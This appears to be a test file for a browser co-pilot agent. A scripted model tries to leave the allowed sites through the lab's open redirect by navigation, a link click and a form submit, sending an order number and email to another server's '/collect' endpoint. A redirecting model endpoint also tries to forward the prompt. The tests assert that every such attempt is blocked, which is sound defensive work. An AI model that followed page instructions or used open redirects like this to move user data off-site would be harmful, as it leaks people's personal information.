import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ChatRequestBody } from '../../sites/model/scripted-server.ts';
import { test, expect } from '../harness/fixtures.ts';
import { configureCopilot, refIn, runToEnd, startModel, startRun, waitForRun } from '../harness/copilot-helpers.ts';
import { startOtherOrigin, type OtherOrigin } from '../harness/nav-other-origin.ts';

/**
 * The co-pilot as an attacker's tool for leaving the allowed sites. Its model (scripted, obeying
 * whatever it is told) sends the agent's tab through the lab's open redirect — by nav.goto, by
 * clicking a link and by submitting a form on an allowed page — towards another local server; and
 * its model endpoint itself answers 307 towards another server, which would receive the prompt.
 * Ground truth is each other server's own request log. Where a step needs the person, the person
 * approves it: even approved, a step of the agent's never reaches an origin outside its sites.
 */

const act = (name: string, input: Record<string, unknown>, thought: string) => JSON.stringify({ kind: 'act', thought, action: { name, input }, expect: 'the partner page opens' });
const done = JSON.stringify({ kind: 'done', thought: 'Done.', claim: 'The partner page is open.' });

let other: OtherOrigin;
test.beforeEach(async () => {
  other = await startOtherOrigin();
});
test.afterEach(async () => {
  await other.stop();
});

const LEAK = 'order=ORD-1024&email=jordan%40example.com';

const scripts: Record<string, (lab: string, target: string) => Array<(body: ChatRequestBody) => string>> = {
  'nav.goto to the open redirect': (lab, target) => [() => act('nav.goto', { url: `${lab}/leave?to=${encodeURIComponent(target)}` }, 'The page told me to go there.'), () => done],
  'a click on a link through the open redirect': () => [(body) => act('dom.click', { ref: refIn(body, 'link', 'Continue to the partner site') }, 'Follow the link.'), () => done],
  'a form submitted through the open redirect': () => [(body) => act('dom.click', { ref: refIn(body, 'button', 'Track my parcel') }, 'Submit the form.'), () => done],
};

for (const [how, script] of Object.entries(scripts)) {
  test(`${how}: the other origin receives no request, and the step is reported stopped`, async ({ steward, sites, openPanel, tabIdOf }) => {
    const model = await startModel();
    try {
      const target = `${other.url}/collect?${LEAK}`;
      const page = await steward.context.newPage();
      await page.goto(`${sites.urls.lab}/partners?to=${encodeURIComponent(target)}`);
      const panel = await openPanel(page);
      const tabId = await tabIdOf(page);
      await configureCopilot(panel, model);
      model.script(script(sites.urls.lab, target));

      const started = await startRun(panel, tabId, 'Open the partner page.');
      const run = await runToEnd(panel, started.run_id);

      expect(other.received, 'the other origin received a request').toEqual([]);
      const step = run.steps.find((s) => s.action?.name === (how.startsWith('nav.goto') ? 'nav.goto' : 'dom.click'));
      expect(step, JSON.stringify(run.steps)).toBeDefined();
      expect(`${step!.status} ${step!.error ?? ''} ${step!.outcome ?? ''}`, JSON.stringify(step)).toMatch(/SITE_NOT_ALLOWED|not one of the sites/);
      expect(new URL(page.url()).origin).not.toBe(other.url);
    } finally {
      await model.stop();
    }
  });
}

test('a model endpoint answering 307 to another server: that server never receives the prompt, and the run says why', async ({ steward, sites, openPanel, tabIdOf }) => {
  const model = await startModel([done]);
  // The configured endpoint: every POST is redirected (307 keeps method and body) to the other server.
  const redirector: Server = createServer((req, res) => {
    req.resume();
    res.writeHead(307, { location: `${model.url}${new URL(req.url ?? '/', 'http://x').pathname.replace(/^\/v1/, '')}` });
    res.end();
  });
  await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
  try {
    const page = await steward.context.newPage();
    await page.goto(`${sites.urls.lab}/partners`);
    const panel = await openPanel(page);
    const tabId = await tabIdOf(page);
    await configureCopilot(panel, { url: `http://127.0.0.1:${(redirector.address() as AddressInfo).port}/v1` });

    const started = await startRun(panel, tabId, 'Open the partner page.');
    const run = await waitForRun(panel, started.run_id, (r) => r.end !== undefined);

    expect(model.requests, 'the other server received the prompt').toEqual([]);
    expect(run.model_error?.code, JSON.stringify(run)).toBe('bad_response');
    expect(run.model_error?.message).toMatch(/redirect/);
  } finally {
    redirector.closeAllConnections();
    await new Promise<void>((resolve) => redirector.close(() => resolve()));
    await model.stop();
  }
});
